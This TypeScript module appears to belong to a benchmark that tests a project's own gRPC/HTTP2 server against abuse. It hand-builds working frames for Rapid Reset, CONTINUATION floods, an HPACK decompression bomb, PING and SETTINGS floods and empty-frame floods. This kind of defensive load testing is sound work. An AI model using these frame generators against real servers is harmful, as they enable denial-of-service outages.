// The frames the abuse patterns send, built by hand with the server's own frame-header and HPACK
// writers (shared/grpc-server), so the bench speaks the same wire the server reads: a real unary
// call's header block and message, and the pieces of each pattern (resets, CONTINUATIONs, an HPACK
// table entry referenced many times, PINGs, SETTINGS, empty frames).
import {
  DEFAULT_MAX_FRAME,
  FLAG,
  FRAME,
  FRAME_HEADER_BYTES,
  H2_ERROR,
  SETTING,
  settingsFrame,
  word,
  writeFrameHeader,
} from '../../shared/grpc-server/h2-frames.ts';
import { fieldBytes, writeIndexed, writeLiteral } from '../../shared/grpc-server/hpack.ts';

export { PREFACE } from '../../shared/grpc-server/h2-frames.ts';
export { FLAG, FRAME, H2_ERROR, SETTING };

/** RFC 7541 Appendix A: the static table's indices the request block uses. */
const STATIC = { authority: 1, methodPost: 3, path: 4, schemeHttp: 6, contentType: 31 } as const;
/** The first dynamic table index (the static table has 61 entries). */
const FIRST_DYNAMIC = 62;

/** One frame: header and payload. */
export function frame(type: number, flags: number, streamId: number, payload?: Buffer): Buffer {
  const length = payload?.length ?? 0;
  const out = Buffer.allocUnsafe(FRAME_HEADER_BYTES + length);
  writeFrameHeader(out, 0, length, type, flags, streamId);
  payload?.copy(out, FRAME_HEADER_BYTES);
  return out;
}

/** Our side of the handshake: the preface is sent apart; then SETTINGS (defaults) and nothing else. */
export const CLIENT_SETTINGS = settingsFrame([[SETTING.ENABLE_PUSH, 0]]);
export const SETTINGS_ACK = frame(FRAME.SETTINGS, FLAG.ACK, 0);

/** A unary gRPC request's header block: literals without indexing, names from the static table. */
export function requestBlock(authority: string, path: string): Buffer {
  const out = Buffer.allocUnsafe(
    2 +
      fieldBytes(':path', path) +
      fieldBytes(':authority', authority) +
      fieldBytes('content-type', 'application/grpc') +
      fieldBytes('te', 'trailers'),
  );
  let at = writeIndexed(out, 0, STATIC.methodPost);
  at = writeIndexed(out, at, STATIC.schemeHttp);
  at = writeLiteral(out, at, ':path', path, STATIC.path);
  at = writeLiteral(out, at, ':authority', authority, STATIC.authority);
  at = writeLiteral(out, at, 'content-type', 'application/grpc', STATIC.contentType);
  at = writeLiteral(out, at, 'te', 'trailers');
  return out.subarray(0, at);
}

/** A gRPC length-prefixed message (not compressed). */
export function grpcMessage(message: Uint8Array): Buffer {
  const out = Buffer.allocUnsafe(5 + message.length);
  out[0] = 0;
  out.writeUInt32BE(message.length, 1);
  out.set(message, 5);
  return out;
}

/** Copies `template` `count` times, writing each copy's stream id at `idOffsets` (ids step by `step`). */
function repeatWithIds(
  template: Buffer,
  idOffsets: readonly number[],
  count: number,
  firstId: number,
  step = 2,
): Buffer {
  const out = Buffer.allocUnsafe(template.length * count);
  for (let i = 0; i < count; i++) {
    const at = i * template.length;
    template.copy(out, at);
    for (const offset of idOffsets) out.writeUInt32BE(firstId + step * i, at + offset);
  }
  return out;
}

/** Rapid reset (CVE-2023-44487): `count` whole calls, each HEADERS + DATA(END_STREAM) then RST_STREAM(CANCEL). */
export function resetCalls(block: Buffer, message: Buffer, count: number, firstId: number): Buffer {
  const headers = frame(FRAME.HEADERS, FLAG.END_HEADERS, 0, block);
  const data = frame(FRAME.DATA, FLAG.END_STREAM, 0, message);
  const reset = word(FRAME.RST_STREAM, 0, H2_ERROR.CANCEL);
  const template = Buffer.concat([headers, data, reset]);
  const ids = [5, headers.length + 5, headers.length + data.length + 5];
  return repeatWithIds(template, ids, count, firstId);
}

/** `count` HEADERS frames carrying `block`, on new streams from `firstId`. */
export function headersFrames(block: Buffer, flags: number, count: number, firstId: number): Buffer {
  return repeatWithIds(frame(FRAME.HEADERS, flags, 0, block), [5], count, firstId);
}

/** A CONTINUATION payload of whole literal fields (x-flood: aaa…), as close to `size` bytes as they fit. */
export function floodFragment(size = DEFAULT_MAX_FRAME): Buffer {
  const out = Buffer.allocUnsafe(size);
  const value = 'a'.repeat(100);
  let at = 0;
  while (at + fieldBytes('x-flood', value) <= size) at = writeLiteral(out, at, 'x-flood', value);
  return frame(FRAME.CONTINUATION, 0, 0, out.subarray(0, at));
}

/** The CONTINUATION flood's frames: one fragment repeated `count` times on stream `id`, END_HEADERS never set. */
export function continuations(fragment: Buffer, count: number, id: number): Buffer {
  return repeatWithIds(fragment, [5], count, id, 0);
}

/**
 * HPACK bomb: a header block that first inserts one large entry into the decoder's dynamic table
 * (`insert`), then references it as many times as the frame holds: each 1-byte reference decodes
 * into a ~4 KB field, so one 16 KB frame stands for ~64 MB of header list.
 */
export function bombBlock(request: Buffer, insert: boolean): Buffer {
  const out = Buffer.alloc(DEFAULT_MAX_FRAME);
  let at = request.copy(out, 0);
  if (insert) {
    // Literal with incremental indexing, new name (RFC 7541 6.2.1): the without-indexing literal's
    // layout with the first byte 0x40 instead of 0x00. Entry size 6 + 4000 + 32 fits the 4096 table.
    const start = at;
    at = writeLiteral(out, at, 'x-bomb', 'b'.repeat(4_000));
    out[start] = 0x40;
  }
  while (at < out.length) at = writeIndexed(out, at, FIRST_DYNAMIC);
  return out.subarray(0, at);
}

/** `count` PING frames (not ACK), each with its own payload. */
export function pings(count: number, seed: number): Buffer {
  const template = frame(FRAME.PING, 0, 0, Buffer.alloc(8));
  const out = Buffer.allocUnsafe(template.length * count);
  for (let i = 0; i < count; i++) {
    template.copy(out, i * template.length);
    out.writeDoubleBE(seed + i, i * template.length + FRAME_HEADER_BYTES);
  }
  return out;
}

/** `count` SETTINGS frames, each asking for an ACK. */
export function settingsFloods(count: number): Buffer {
  const one = settingsFrame([
    [SETTING.HEADER_TABLE_SIZE, 4096],
    [SETTING.INITIAL_WINDOW_SIZE, 65_535],
  ]);
  return Buffer.concat(Array.from({ length: count }, () => one));
}

/**
 * Empty frames (CVE-2019-9518): `count` zero-length DATA frames on the open stream `dataId`, then a
 * zero-length HEADERS (no END_HEADERS) on the new stream `newId`, `count` zero-length CONTINUATIONs,
 * and a last CONTINUATION carrying the request block (so the block completes and the next one may start).
 */
export function emptyFrames(block: Buffer, count: number, dataId: number, newId: number): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < count; i++) parts.push(frame(FRAME.DATA, 0, dataId));
  parts.push(frame(FRAME.HEADERS, FLAG.END_STREAM, newId));
  for (let i = 0; i < count; i++) parts.push(frame(FRAME.CONTINUATION, 0, newId));
  parts.push(frame(FRAME.CONTINUATION, FLAG.END_HEADERS, newId, block));
  return Buffer.concat(parts);
}
